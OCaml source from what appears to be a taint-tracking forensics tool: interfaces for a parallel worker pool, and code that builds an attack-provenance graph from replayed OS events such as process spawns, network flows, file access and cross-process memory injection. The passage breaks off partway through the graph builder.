    The pool itself shares nothing between jobs; isolation of what the
    jobs touch (notably the domain-local {!Faros_dift.Prov_intern}
    store) is the job body's responsibility — see {!Campaign}.

    Telemetry: each spawned domain counts its jobs and splits its wall
    time into busy (inside job bodies) and idle (waiting on the queue)
    nanoseconds, and the queue remembers its peak depth.  Read them with
    {!worker_stats} / {!peak_depth} after {!shutdown} for exact values. *)

type t

type 'a promise

(** Per-worker counters, written only by that worker's domain. *)
type worker_stat = {
  mutable ws_jobs : int;  (** jobs completed by this worker *)
  mutable ws_busy_ns : int;  (** time inside job bodies *)
  mutable ws_idle_ns : int;  (** time waiting on the queue *)
}

val create : ?workers:int -> unit -> t
(** Spawn a pool of [workers] domains (default 1).  Raises
    [Invalid_argument] when [workers < 1].  The domains actually spawned
    are capped at the host's recommended domain count (override with
    [FAROS_FARM_DOMAINS]); {!workers} still reports the request. *)

val workers : t -> int
(** The requested worker count. *)

val spawned : t -> int
(** The domains actually spawned: [min workers (host cap)]. *)

val submit : t -> (unit -> 'a) -> 'a promise
(** Enqueue a job.  Raises [Invalid_argument] after {!shutdown}. *)

val submit_indexed : t -> (worker:int -> 'a) -> 'a promise
(** Like {!submit}, but the job receives the index (in
    [0 .. spawned-1]) of the worker domain that runs it — the campaign
    driver uses it to label per-job artifacts with their producer. *)

val await : 'a promise -> ('a, exn) result
(** Block until the job has run; [Error e] if the job raised [e]. *)

val shutdown : t -> unit
(** Stop accepting jobs, let the workers drain the queue, then join
    their domains.  Idempotent. *)

val worker_stats : t -> worker_stat list
(** A snapshot per spawned worker, in worker-index order.  Exact after
    {!shutdown}; while workers run it may lag by the job in flight. *)

val peak_depth : t -> int
(** The deepest the job queue has been since {!create}. *)

val map : ?workers:int -> ('a -> 'b) -> 'a list -> ('b, exn) result list
(** [map ~workers f items] runs [f] over [items] on a transient pool and
    returns results in input order (completion order never shows). *)
