(** A fixed-size domain worker pool with per-worker lanes and work
    stealing.

    Each spawned domain owns a FIFO lane; {!submit} places jobs
    round-robin across the lanes, and a worker that drains its own lane
    steals the oldest job from the longest remaining lane instead of
    idling.  All lanes share one mutex+condition, so scheduling and
    telemetry have a single synchronization point.  {!submit} returns a
    promise; {!await} blocks until the job ran.  A job that raises
    fulfills its promise with [Error] — it never takes its worker down.
    {!shutdown} is graceful: workers drain every lane first, so every
    promise submitted before shutdown is fulfilled.

    The pool schedules where and when jobs run, never what they return:
    callers that await promises in submission order observe
    byte-identical output for any worker count and any steal
    interleaving.  The pool itself shares nothing between jobs;
    isolation of what the jobs touch (notably the domain-local
    {!Faros_dift.Prov_intern} store) is the job body's responsibility —
    see {!Campaign}.

    Telemetry: each spawned domain counts its jobs and steals and splits
    its wall time into busy (inside job bodies) and idle (waiting for
    work) nanoseconds, and the pool remembers the peak total lane depth.
    Every counter is written under the pool mutex, so {!worker_stats}
    and {!peak_depth} are exact point-in-time snapshots even while the
    domains run. *)

type t

type 'a promise

(** Per-worker counters.  Mutated only under the pool mutex. *)
type worker_stat = {
  mutable ws_jobs : int;  (** jobs completed by this worker *)
  mutable ws_steals : int;  (** jobs taken from another worker's lane *)
  mutable ws_busy_ns : int;  (** time inside job bodies *)
  mutable ws_idle_ns : int;  (** time waiting for work *)
}

val create : ?workers:int -> unit -> t
(** Spawn a pool of [workers] domains (default 1).  Raises
    [Invalid_argument] when [workers < 1].  The domains actually spawned
    are capped at the host's recommended domain count (override with
    [FAROS_FARM_DOMAINS]); {!workers} still reports the request. *)

val workers : t -> int
(** The requested worker count. *)

val spawned : t -> int
(** The domains actually spawned: [min workers (host cap)]. *)

val submit : t -> (unit -> 'a) -> 'a promise
(** Enqueue a job on the next lane (round-robin).  Raises
    [Invalid_argument] after {!shutdown}. *)

val submit_indexed : t -> (worker:int -> 'a) -> 'a promise
(** Like {!submit}, but the job receives the index (in
    [0 .. spawned-1]) of the worker domain that runs it — the campaign
    driver uses it to label per-job artifacts with their producer.
    With stealing on, the index is the worker that RAN the job, which
    need not be the lane it was placed on. *)

val await : 'a promise -> ('a, exn) result
(** Block until the job has run; [Error e] if the job raised [e]. *)

val shutdown : t -> unit
(** Stop accepting jobs, let the workers drain every lane, then join
    their domains.  Idempotent. *)

val worker_stats : t -> worker_stat list
(** An exact snapshot per spawned worker, in worker-index order, taken
    under the pool mutex — race-free even while the domains run. *)

val peak_depth : t -> int
(** The deepest the lanes have been (summed across lanes) since
    {!create}. *)

val map : ?workers:int -> ('a -> 'b) -> 'a list -> ('b, exn) result list
(** [map ~workers f items] runs [f] over [items] on a transient pool and
    returns results in input order (completion order never shows). *)
