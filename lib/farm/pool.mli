(** A fixed-size domain worker pool.

    [workers] domains share one mutex+condition job queue.  {!submit}
    returns a promise; {!await} blocks until the job ran.  A job that
    raises fulfills its promise with [Error] — it never takes its worker
    down.  {!shutdown} is graceful: workers drain the queue first, so
    every promise submitted before shutdown is fulfilled.

    The pool itself shares nothing between jobs; isolation of what the
    jobs touch (notably the domain-local {!Faros_dift.Prov_intern}
    store) is the job body's responsibility — see {!Campaign}. *)

type t

type 'a promise

val create : ?workers:int -> unit -> t
(** Spawn a pool of [workers] domains (default 1).  Raises
    [Invalid_argument] when [workers < 1]. *)

val workers : t -> int

val submit : t -> (unit -> 'a) -> 'a promise
(** Enqueue a job.  Raises [Invalid_argument] after {!shutdown}. *)

val await : 'a promise -> ('a, exn) result
(** Block until the job has run; [Error e] if the job raised [e]. *)

val shutdown : t -> unit
(** Stop accepting jobs, let the workers drain the queue, then join
    their domains.  Idempotent. *)

val map : ?workers:int -> ('a -> 'b) -> 'a list -> ('b, exn) result list
(** [map ~workers f items] runs [f] over [items] on a transient pool and
    returns results in input order (completion order never shows). *)
