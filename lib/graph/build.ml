(* Graph construction, both ways the issue of forensics poses it:

   - online: a replay plugin subscribed to the kernel's Os_event stream
     (interactions become edges as they happen) plus a detector flag
     observer (each effective flag becomes a flag-site node, wired to the
     flagging process and to every tag in the flagged instruction's
     provenance — the backbone that guarantees slices reach origins);
   - offline: once the replay is over, [enrich] walks the shadow-memory
     state through {!Core.Prov_query} and adds the tainted-region nodes
     with tainted-by edges from their resolved sources, plus per-process
     taint totals.

   Both passes resolve tag indices against the analysis's own tag store,
   so graph nodes and Table II lines name the same objects. *)

type t = {
  b_graph : Graph.t;
  c_events : Faros_obs.Metrics.counter option;
  c_flags : Faros_obs.Metrics.counter option;
  mutable b_kernel : Faros_os.Kernel.t option;
  mutable b_store : Faros_dift.Tag_store.t option;
  mutable b_profile : Faros_obs.Profile.t;  (* adopted from the plugin *)
}

let create ?metrics ~sample () =
  let reg name =
    Option.map (fun m -> Faros_obs.Metrics.counter m name) metrics
  in
  {
    b_graph = Graph.create ?metrics ~sample ();
    c_events = reg "graph.os_events";
    c_flags = reg "graph.flag_sites";
    b_kernel = None;
    b_store = None;
    b_profile = Faros_obs.Profile.disabled;
  }

let graph t = t.b_graph

let kernel_exn t =
  match t.b_kernel with
  | Some k -> k
  | None -> invalid_arg "Build: plugin not attached yet"

let proc_node t pid =
  let k = kernel_exn t in
  Graph.process_node t.b_graph ~pid ~name:(Faros_os.Kstate.proc_name k pid)

(* The kernel export directory as a pseudo-module node: where
   export-table tags point. *)
let export_dir_node t =
  Graph.module_node t.b_graph ~pid:0 ~image:"kernel export directory"
    ~base:Faros_os.Export_table.export_dir_vaddr

(* Resolve one provenance tag to the graph node standing for its payload. *)
let tag_source t (tag : Faros_dift.Tag.t) =
  match t.b_store with
  | None -> None
  | Some store -> (
    match tag with
    | Netflow i ->
      Option.map (Graph.flow_node t.b_graph)
        (Faros_dift.Tag_store.netflow_of store i)
    | Process i -> (
      match Faros_dift.Tag_store.cr3_of store i with
      | Some asid -> (
        match Faros_os.Kstate.proc_by_asid (kernel_exn t) asid with
        | Some p -> Some (proc_node t p.Faros_os.Process.pid)
        | None -> None)
      | None -> None)
    | File i ->
      Option.map
        (fun (f : Faros_dift.Tag_store.file_id) ->
          Graph.file_node t.b_graph ~name:f.file_name ~version:f.file_version)
        (Faros_dift.Tag_store.file_of store i)
    | Export_table _ -> Some (export_dir_node t))

let record_os_event t (ev : Faros_os.Os_event.t) =
  Option.iter Faros_obs.Metrics.incr t.c_events;
  let g = t.b_graph in
  let tick = Faros_os.Kernel.tick (kernel_exn t) in
  let edge ?bytes src dst kind = Graph.add_edge g ?bytes ~src ~dst ~kind ~tick () in
  match ev with
  | Proc_created { pid; name; parent; suspended; _ } ->
    let child = Graph.process_node g ~pid ~name in
    Option.iter
      (fun pp ->
        let parent = proc_node t pp in
        edge parent child Graph.Spawned;
        if suspended then edge parent child Graph.Suspended)
      parent
  | Proc_exited { pid; code } -> Graph.set_exit_code (proc_node t pid) code
  | Proc_suspended { pid; by } -> edge (proc_node t by) (proc_node t pid) Graph.Suspended
  | Proc_resumed { pid; by } -> edge (proc_node t by) (proc_node t pid) Graph.Resumed
  | Proc_unmapped { pid; by; _ } ->
    (* unmapping someone else's image is the hollowing prelude *)
    if by <> pid then edge (proc_node t by) (proc_node t pid) Graph.Injected_into
  | Net_connect { pid; flow } ->
    edge (proc_node t pid) (Graph.flow_node g flow) Graph.Connected
  | Net_accept { pid; flow } ->
    (* accepted inbound connection: the flow reached the server process *)
    edge (Graph.flow_node g flow) (proc_node t pid) Graph.Connected
  | Net_recv { pid; flow; dst_paddrs } ->
    edge
      ~bytes:(List.length dst_paddrs)
      (Graph.flow_node g flow) (proc_node t pid) Graph.Received
  | Net_send { pid; flow; src_paddrs } ->
    edge
      ~bytes:(List.length src_paddrs)
      (proc_node t pid) (Graph.flow_node g flow) Graph.Sent
  | File_read { pid; path; version; dst_paddrs; _ } ->
    edge
      ~bytes:(List.length dst_paddrs)
      (Graph.file_node g ~name:path ~version)
      (proc_node t pid) Graph.Read
  | File_write { pid; path; version; src_paddrs; _ } ->
    edge
      ~bytes:(List.length src_paddrs)
      (proc_node t pid)
      (Graph.file_node g ~name:path ~version)
      Graph.Wrote
  | Mem_copy { by; src_pid; dst_pid; dst_paddrs; _ } ->
    (* only cross-process copies are graph-worthy; the writer is the
       injector, unless the writer is the destination reading someone
       else's memory, in which case data still flowed src -> dst *)
    let writer = if by <> dst_pid then by else src_pid in
    if writer <> dst_pid then
      edge
        ~bytes:(List.length dst_paddrs)
        (proc_node t writer) (proc_node t dst_pid) Graph.Injected_into
  | Mem_alloc { by; in_pid; _ } ->
    if by <> in_pid then edge (proc_node t by) (proc_node t in_pid) Graph.Injected_into
  | Module_loaded { pid; image; base } ->
    edge (proc_node t pid) (Graph.module_node g ~pid ~image ~base) Graph.Mapped
  | Context_set { pid; by; _ } ->
    if by <> pid then edge (proc_node t by) (proc_node t pid) Graph.Injected_into
  | Sys_enter _ | Sys_exit _ | File_opened _ | File_deleted _ | Popup _
  | Debug_print _ | Key_read _ | Audio_read _ | Screenshot _ ->
    ()

(* Online construction nests under [kernel.syscall] (events arrive from
   dispatch): [graph.build] is what forensics adds to each syscall. *)
let on_os_event t ev =
  let prof = t.b_profile in
  if Faros_obs.Profile.enabled prof then begin
    Faros_obs.Profile.enter prof "graph.build";
    record_os_event t ev;
    Faros_obs.Profile.exit prof
  end
  else record_os_event t ev

let on_flag t (flag : Core.Report.flag) =
  if not flag.f_whitelisted then begin
    let g = t.b_graph in
    let fnode =
      Graph.flag_site_node g ~process:flag.f_process ~pc:flag.f_pc
        ~tick:flag.f_tick
    in
    Option.iter Faros_obs.Metrics.incr t.c_flags;
    (match Faros_os.Kstate.proc_by_asid (kernel_exn t) flag.f_asid with
    | Some p ->
      Graph.add_edge g
        ~src:(proc_node t p.Faros_os.Process.pid)
        ~dst:fnode ~kind:Graph.Flagged ~tick:flag.f_tick ()
    | None -> ());
    (* oldest tag first, so origin nodes intern before intermediaries *)
    List.iter
      (fun tag ->
        match tag_source t tag with
        | Some src when src.Graph.n_id <> fnode.Graph.n_id ->
          Graph.add_edge g ~src ~dst:fnode ~kind:Graph.Tainted_by
            ~tick:flag.f_tick ()
        | _ -> ())
      (List.rev (Faros_dift.Provenance.to_list flag.f_instr_prov))
  end

let plugin t ~kernel ~(faros : Core.Faros_plugin.t) =
  t.b_kernel <- Some kernel;
  t.b_store <- Some faros.engine.store;
  t.b_profile <- faros.profile;
  Core.Detector.add_flag_observer faros.detector (on_flag t);
  Faros_replay.Plugin.make ~on_os_event:(on_os_event t) "attack-graph"

let enrich_walk t (faros : Core.Faros_plugin.t) =
  if t.b_kernel = None then t.b_kernel <- Some faros.kernel;
  if t.b_store = None then t.b_store <- Some faros.engine.store;
  let kernel = kernel_exn t in
  let g = t.b_graph in
  let tick = Faros_os.Kernel.tick kernel in
  List.iter
    (fun (p : Faros_os.Process.t) ->
      let regions = Core.Prov_query.regions_of_process faros p in
      let pn = proc_node t p.pid in
      let tainted =
        List.fold_left (fun acc (r : Core.Prov_query.region_taint) -> acc + r.rt_len) 0 regions
      in
      let netflow =
        List.fold_left
          (fun acc (r : Core.Prov_query.region_taint) ->
            if List.mem Faros_dift.Tag.Ty_netflow r.rt_types then acc + r.rt_len
            else acc)
          0 regions
      in
      Graph.set_process_taint pn ~tainted_bytes:tainted ~netflow_bytes:netflow;
      List.iter
        (fun (r : Core.Prov_query.region_taint) ->
          let rn =
            Graph.region_node g ~pid:r.rt_pid ~process:r.rt_process
              ~vaddr:r.rt_vaddr ~len:r.rt_len
              ~types:(List.map Core.Prov_query.ty_name r.rt_types)
          in
          List.iter
            (fun tag ->
              match tag_source t tag with
              | Some src when src.Graph.n_id <> rn.Graph.n_id ->
                Graph.add_edge g ~src ~dst:rn ~kind:Graph.Tainted_by ~tick ()
              | _ -> ())
            (List.rev (Faros_dift.Provenance.to_list r.rt_sample)))
        regions)
    (Faros_os.Kstate.processes kernel)

(* Offline enrichment is a whole shadow-memory walk: one top-level-ish
   [graph.enrich] span (it runs after the replay, outside [kernel.*]). *)
let enrich t (faros : Core.Faros_plugin.t) =
  if Faros_obs.Profile.enabled t.b_profile then
    Faros_obs.Profile.with_span t.b_profile "graph.enrich" (fun () ->
        enrich_walk t faros)
  else enrich_walk t faros
