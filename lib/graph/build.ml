(* Graph construction, both ways the issue of forensics poses it:

   - online: a replay plugin subscribed to the kernel's Os_event stream
     (interactions become edges as they happen) plus a detector flag
     observer (each effective flag becomes a flag-site node, wired to the
     flagging process and to every tag in the flagged instruction's
     provenance — the backbone that guarantees slices reach origins);
   - offline: once the replay is over, [enrich] walks the shadow-memory
     state through {!Core.Prov_query} and adds the tainted-region nodes
     with tainted-by edges from their resolved sources, plus per-process
     taint totals.

   Construction is narrated as a {!Delta} stream rather than performed by
   in-place mutation: the builder assigns each entity a first-encounter
   ordinal (the resident node id) plus a run-independent stable identity
   string, and every consumer — the default resident {!Graph.t}, or a
   bounded-memory segment writer — replays the same stream.  The builder
   also watches for quiescence (a closed flow, an exited process) and
   emits retirement hints, which is what lets a streaming consumer keep
   the resident working set O(live entities) over arbitrarily long server
   traces.

   Both passes resolve tag indices against the analysis's own tag store,
   so graph nodes and Table II lines name the same objects. *)

(* Lineage bookkeeping behind the stable process identity: image-name
   hash plus the creation chain (parent lineage, sibling index), which is
   deterministic across runs of the same scenario and distinguishes the
   2,000 worker.exe instances a server trace spawns. *)
type pinfo = {
  pi_name : string;  (* name at creation — stable, unlike Kstate lookups *)
  pi_parent : int option;
  pi_index : int;  (* sibling index under its parent (or boot order) *)
  mutable pi_children : int;
}

type t = {
  b_sample : string;
  b_graph : Graph.t option;  (* the resident consumer's graph, if any *)
  b_resident : Delta.resident option;
  mutable b_consumer : (Delta.t -> unit) option;  (* extra stream consumer *)
  c_events : Faros_obs.Metrics.counter option;
  c_flags : Faros_obs.Metrics.counter option;
  mutable b_kernel : Faros_os.Kernel.t option;
  mutable b_store : Faros_dift.Tag_store.t option;
  mutable b_profile : Faros_obs.Profile.t;  (* adopted from the plugin *)
  (* ordinal + identity assignment: one entry per entity ever seen — the
     index that keeps reconstructed ids equal to resident ids.  Flat ints
     and short strings: tiny next to a resident subgraph. *)
  b_ords : (Graph.key, int) Hashtbl.t;
  mutable b_next_ord : int;
  b_procs : (int, pinfo) Hashtbl.t;  (* by pid *)
  mutable b_roots : int;  (* boot-order index for parentless processes *)
  b_pname : (int, string) Hashtbl.t;  (* proc ord -> last emitted name *)
  b_fver : (int, int * int) Hashtbl.t;  (* file ord -> version range *)
  (* quiescence tracking: which live pids still hold each flow open *)
  b_touch : (int, int list ref) Hashtbl.t;  (* flow ord -> live toucher pids *)
  b_pid_flows : (int, int list ref) Hashtbl.t;  (* pid -> flow ords touched *)
  b_pid_owned : (int, int list ref) Hashtbl.t;
      (* pid -> module/region ords created while the process lived; they
         quiesce with it *)
  b_exited : (int, unit) Hashtbl.t;  (* pids that exited *)
  b_retired : (int, unit) Hashtbl.t;  (* ords already retired *)
}

let create ?metrics ?(resident = true) ?consumer ~sample () =
  let reg name =
    Option.map (fun m -> Faros_obs.Metrics.counter m name) metrics
  in
  let graph =
    if resident then Some (Graph.create ?metrics ~sample ()) else None
  in
  {
    b_sample = sample;
    b_graph = graph;
    b_resident = Option.map Delta.resident graph;
    b_consumer = consumer;
    c_events = reg "graph.os_events";
    c_flags = reg "graph.flag_sites";
    b_kernel = None;
    b_store = None;
    b_profile = Faros_obs.Profile.disabled;
    b_ords = Hashtbl.create 256;
    b_next_ord = 0;
    b_procs = Hashtbl.create 64;
    b_roots = 0;
    b_pname = Hashtbl.create 64;
    b_fver = Hashtbl.create 64;
    b_touch = Hashtbl.create 64;
    b_pid_flows = Hashtbl.create 64;
    b_pid_owned = Hashtbl.create 64;
    b_exited = Hashtbl.create 64;
    b_retired = Hashtbl.create 64;
  }

let sample t = t.b_sample
let set_consumer t consumer = t.b_consumer <- Some consumer

let graph t =
  match t.b_graph with
  | Some g -> g
  | None -> invalid_arg "Build.graph: builder created with ~resident:false"

let emit t delta =
  (match t.b_resident with Some r -> Delta.apply r delta | None -> ());
  match t.b_consumer with Some f -> f delta | None -> ()

let kernel_exn t =
  match t.b_kernel with
  | Some k -> k
  | None -> invalid_arg "Build: plugin not attached yet"

(* -- stable identities ---------------------------------------------------- *)

(* FNV-1a over the image name: the stand-in for an image content hash
   (images are deterministic per name in this guest). *)
let hash8 s =
  let h = ref 0x811c9dc5 in
  String.iter
    (fun c -> h := (!h lxor Char.code c) * 0x01000193 land 0xFFFFFFFF)
    s;
  Printf.sprintf "%08x" !h

(* Flows separated by enough ticks are different conversations even when
   the 4-tuple recurs; one bucket covers any single trace's schedule. *)
let ident_window = 1 lsl 20

let rec lineage t pid =
  match Hashtbl.find_opt t.b_procs pid with
  | Some pi -> (
    let self = Printf.sprintf "%s:%d" pi.pi_name pi.pi_index in
    match pi.pi_parent with
    | Some pp -> lineage t pp ^ ">" ^ self
    | None -> self)
  | None ->
    (* referenced before (or without) a Proc_created: fall back to the
       deterministic pid *)
    Printf.sprintf "%s#%d"
      (match t.b_kernel with
      | Some k -> Faros_os.Kstate.proc_name k pid
      | None -> "?")
      pid

let proc_ident t pid ~name = Printf.sprintf "proc|%s|%s" (hash8 name) (lineage t pid)

let flow_ident (f : Graph.flow) ~tick =
  Printf.sprintf "flow|%s:%d->%s:%d|w%d"
    (Faros_os.Types.Ip.to_string f.src_ip)
    f.src_port
    (Faros_os.Types.Ip.to_string f.dst_ip)
    f.dst_port (tick / ident_window)

let module_ident t ~pid ~image ~base =
  if pid = 0 then Printf.sprintf "module|%s|kernel" image
  else Printf.sprintf "module|%s@0x%08X|%s" image base (lineage t pid)

let region_ident t ~pid ~vaddr =
  Printf.sprintf "region|%s|0x%08X" (lineage t pid) vaddr

let flag_ident ~process ~pc = Printf.sprintf "flag|%s|0x%08X" process pc
let file_ident name = "file|" ^ name

(* -- interning ------------------------------------------------------------ *)

let fresh t key =
  let o = t.b_next_ord in
  t.b_next_ord <- o + 1;
  Hashtbl.replace t.b_ords key o;
  o

let proc_ord ?name t pid =
  let name =
    match name with
    | Some n -> n
    | None -> Faros_os.Kstate.proc_name (kernel_exn t) pid
  in
  match Hashtbl.find_opt t.b_ords (Graph.K_proc pid) with
  | Some o ->
    (* a pid referenced before its name was known picks it up once *)
    (match Hashtbl.find_opt t.b_pname o with
    | Some "?" when name <> "?" ->
      Hashtbl.replace t.b_pname o name;
      emit t (Delta.D_name { ord = o; name })
    | _ -> ());
    o
  | None ->
    let ident = proc_ident t pid ~name in
    let o = fresh t (Graph.K_proc pid) in
    Hashtbl.replace t.b_pname o name;
    emit t (Delta.D_node { ord = o; ident; seed = Delta.S_proc { pid; name } });
    o

let flow_ord t flow ~tick =
  match Hashtbl.find_opt t.b_ords (Graph.K_flow flow) with
  | Some o -> o
  | None ->
    let o = fresh t (Graph.K_flow flow) in
    emit t
      (Delta.D_node
         { ord = o; ident = flow_ident flow ~tick; seed = Delta.S_flow flow });
    o

let file_ord t ~name ~version =
  match Hashtbl.find_opt t.b_ords (Graph.K_file name) with
  | Some o ->
    let lo, hi = try Hashtbl.find t.b_fver o with Not_found -> (version, version) in
    if version < lo || version > hi then begin
      Hashtbl.replace t.b_fver o (min version lo, max version hi);
      emit t (Delta.D_version { ord = o; version })
    end;
    o
  | None ->
    let o = fresh t (Graph.K_file name) in
    Hashtbl.replace t.b_fver o (version, version);
    emit t
      (Delta.D_node
         {
           ord = o;
           ident = file_ident name;
           seed = Delta.S_file { name; version };
         });
    o

(* Modules and regions belong to their process: remember them while the
   process lives so they can quiesce with it.  (Ones first seen after the
   exit — offline enrichment — stay live until [close] drains them.) *)
let own t pid o =
  if pid <> 0 && not (Hashtbl.mem t.b_exited pid) then begin
    let owned =
      match Hashtbl.find_opt t.b_pid_owned pid with
      | Some l -> l
      | None ->
        let l = ref [] in
        Hashtbl.replace t.b_pid_owned pid l;
        l
    in
    owned := o :: !owned
  end

let module_ord t ~pid ~image ~base =
  match Hashtbl.find_opt t.b_ords (Graph.K_module (pid, image)) with
  | Some o -> o
  | None ->
    let ident = module_ident t ~pid ~image ~base in
    let o = fresh t (Graph.K_module (pid, image)) in
    emit t
      (Delta.D_node { ord = o; ident; seed = Delta.S_module { pid; image; base } });
    own t pid o;
    o

let region_ord t ~pid ~process ~vaddr ~len ~types =
  match Hashtbl.find_opt t.b_ords (Graph.K_region (pid, vaddr)) with
  | Some o -> o
  | None ->
    let ident = region_ident t ~pid ~vaddr in
    let o = fresh t (Graph.K_region (pid, vaddr)) in
    emit t
      (Delta.D_node
         {
           ord = o;
           ident;
           seed = Delta.S_region { pid; process; vaddr; len; types };
         });
    own t pid o;
    o

let flag_ord t ~process ~pc ~tick =
  match Hashtbl.find_opt t.b_ords (Graph.K_flag (process, pc)) with
  | Some o -> o
  | None ->
    let o = fresh t (Graph.K_flag (process, pc)) in
    emit t
      (Delta.D_node
         {
           ord = o;
           ident = flag_ident ~process ~pc;
           seed = Delta.S_flag { process; pc; tick };
         });
    o

(* The kernel export directory as a pseudo-module node: where
   export-table tags point. *)
let export_dir_node t =
  module_ord t ~pid:0 ~image:"kernel export directory"
    ~base:Faros_os.Export_table.export_dir_vaddr

(* -- quiescence / retirement ---------------------------------------------- *)

let retire t ord =
  if not (Hashtbl.mem t.b_retired ord) then begin
    Hashtbl.replace t.b_retired ord ();
    emit t (Delta.D_retire { ord })
  end

let touch_flow t fo pid =
  if not (Hashtbl.mem t.b_exited pid) then begin
    let touchers =
      match Hashtbl.find_opt t.b_touch fo with
      | Some l -> l
      | None ->
        let l = ref [] in
        Hashtbl.replace t.b_touch fo l;
        l
    in
    if not (List.mem pid !touchers) then begin
      touchers := pid :: !touchers;
      let flows =
        match Hashtbl.find_opt t.b_pid_flows pid with
        | Some l -> l
        | None ->
          let l = ref [] in
          Hashtbl.replace t.b_pid_flows pid l;
          l
      in
      if not (List.mem fo !flows) then flows := fo :: !flows
    end
  end

let release_flow t fo pid =
  match Hashtbl.find_opt t.b_touch fo with
  | None -> ()
  | Some touchers ->
    touchers := List.filter (fun p -> p <> pid) !touchers;
    if !touchers = [] then begin
      Hashtbl.remove t.b_touch fo;
      retire t fo
    end

let on_proc_exit t pid =
  Hashtbl.replace t.b_exited pid ();
  (match Hashtbl.find_opt t.b_pid_flows pid with
  | Some flows ->
    List.iter (fun fo -> release_flow t fo pid) (List.rev !flows);
    Hashtbl.remove t.b_pid_flows pid
  | None -> ());
  (match Hashtbl.find_opt t.b_pid_owned pid with
  | Some owned ->
    List.iter (retire t) (List.rev !owned);
    Hashtbl.remove t.b_pid_owned pid
  | None -> ());
  match Hashtbl.find_opt t.b_ords (Graph.K_proc pid) with
  | Some o -> retire t o
  | None -> ()

(* -- online construction -------------------------------------------------- *)

(* Resolve one provenance tag to the ordinal standing for its payload. *)
let tag_source t ~tick (tag : Faros_dift.Tag.t) =
  match t.b_store with
  | None -> None
  | Some store -> (
    match tag with
    | Netflow i ->
      Option.map
        (fun f -> flow_ord t f ~tick)
        (Faros_dift.Tag_store.netflow_of store i)
    | Process i -> (
      match Faros_dift.Tag_store.cr3_of store i with
      | Some asid -> (
        match Faros_os.Kstate.proc_by_asid (kernel_exn t) asid with
        | Some p -> Some (proc_ord t p.Faros_os.Process.pid)
        | None -> None)
      | None -> None)
    | File i ->
      Option.map
        (fun (f : Faros_dift.Tag_store.file_id) ->
          file_ord t ~name:f.file_name ~version:f.file_version)
        (Faros_dift.Tag_store.file_of store i)
    | Export_table _ -> Some (export_dir_node t))

let record_os_event t (ev : Faros_os.Os_event.t) =
  Option.iter Faros_obs.Metrics.incr t.c_events;
  let tick = Faros_os.Kernel.tick (kernel_exn t) in
  let edge ?(bytes = 0) src dst kind =
    emit t (Delta.D_edge { src; dst; kind; tick; bytes })
  in
  match ev with
  | Proc_created { pid; name; parent; suspended; _ } ->
    (* register lineage before interning, so the child's stable identity
       names its creation chain *)
    if not (Hashtbl.mem t.b_procs pid) then begin
      let index =
        match parent with
        | Some pp -> (
          match Hashtbl.find_opt t.b_procs pp with
          | Some ppi ->
            let i = ppi.pi_children in
            ppi.pi_children <- i + 1;
            i
          | None -> 0)
        | None ->
          let i = t.b_roots in
          t.b_roots <- i + 1;
          i
      in
      Hashtbl.replace t.b_procs pid
        { pi_name = name; pi_parent = parent; pi_index = index; pi_children = 0 }
    end;
    let child = proc_ord ~name t pid in
    Option.iter
      (fun pp ->
        let parent = proc_ord t pp in
        edge parent child Graph.Spawned;
        if suspended then edge parent child Graph.Suspended)
      parent
  | Proc_exited { pid; code } ->
    emit t (Delta.D_exit { ord = proc_ord t pid; code });
    on_proc_exit t pid
  | Proc_suspended { pid; by } -> edge (proc_ord t by) (proc_ord t pid) Graph.Suspended
  | Proc_resumed { pid; by } -> edge (proc_ord t by) (proc_ord t pid) Graph.Resumed
  | Proc_unmapped { pid; by; _ } ->
    (* unmapping someone else's image is the hollowing prelude *)
    if by <> pid then edge (proc_ord t by) (proc_ord t pid) Graph.Injected_into
  | Net_connect { pid; flow } ->
    let fo = flow_ord t flow ~tick in
    touch_flow t fo pid;
    edge (proc_ord t pid) fo Graph.Connected
  | Net_accept { pid; flow } ->
    (* accepted inbound connection: the flow reached the server process.
       Accepting is not a quiescence stake — a listener typically
       duplicates the handle into a worker and never moves payload
       itself, so only data movement (recv/send) registers a toucher;
       otherwise every flow stays pinned until the listener exits *)
    let fo = flow_ord t flow ~tick in
    edge fo (proc_ord t pid) Graph.Connected
  | Net_recv { pid; flow; dst_paddrs } ->
    let fo = flow_ord t flow ~tick in
    touch_flow t fo pid;
    edge ~bytes:(List.length dst_paddrs) fo (proc_ord t pid) Graph.Received
  | Net_send { pid; flow; src_paddrs } ->
    let fo = flow_ord t flow ~tick in
    touch_flow t fo pid;
    edge ~bytes:(List.length src_paddrs) (proc_ord t pid) fo Graph.Sent
  | Net_closed { pid; flow } -> (
    (* no resident change — just the quiescence signal *)
    match Hashtbl.find_opt t.b_ords (Graph.K_flow flow) with
    | Some fo -> release_flow t fo pid
    | None -> ())
  | File_read { pid; path; version; dst_paddrs; _ } ->
    edge
      ~bytes:(List.length dst_paddrs)
      (file_ord t ~name:path ~version)
      (proc_ord t pid) Graph.Read
  | File_write { pid; path; version; src_paddrs; _ } ->
    edge
      ~bytes:(List.length src_paddrs)
      (proc_ord t pid)
      (file_ord t ~name:path ~version)
      Graph.Wrote
  | Mem_copy { by; src_pid; dst_pid; dst_paddrs; _ } ->
    (* only cross-process copies are graph-worthy; the writer is the
       injector, unless the writer is the destination reading someone
       else's memory, in which case data still flowed src -> dst *)
    let writer = if by <> dst_pid then by else src_pid in
    if writer <> dst_pid then
      edge
        ~bytes:(List.length dst_paddrs)
        (proc_ord t writer) (proc_ord t dst_pid) Graph.Injected_into
  | Mem_alloc { by; in_pid; _ } ->
    if by <> in_pid then edge (proc_ord t by) (proc_ord t in_pid) Graph.Injected_into
  | Module_loaded { pid; image; base } ->
    edge (proc_ord t pid) (module_ord t ~pid ~image ~base) Graph.Mapped
  | Context_set { pid; by; _ } ->
    if by <> pid then edge (proc_ord t by) (proc_ord t pid) Graph.Injected_into
  | Sys_enter _ | Sys_exit _ | File_opened _ | File_deleted _ | Popup _
  | Debug_print _ | Key_read _ | Audio_read _ | Screenshot _ ->
    ()

(* Online construction nests under [kernel.syscall] (events arrive from
   dispatch): [graph.build] is what forensics adds to each syscall. *)
let on_os_event t ev =
  let prof = t.b_profile in
  if Faros_obs.Profile.enabled prof then begin
    Faros_obs.Profile.enter prof "graph.build";
    record_os_event t ev;
    Faros_obs.Profile.exit prof
  end
  else record_os_event t ev

let on_flag t (flag : Core.Report.flag) =
  if not flag.f_whitelisted then begin
    let fnode = flag_ord t ~process:flag.f_process ~pc:flag.f_pc ~tick:flag.f_tick in
    Option.iter Faros_obs.Metrics.incr t.c_flags;
    (match Faros_os.Kstate.proc_by_asid (kernel_exn t) flag.f_asid with
    | Some p ->
      emit t
        (Delta.D_edge
           {
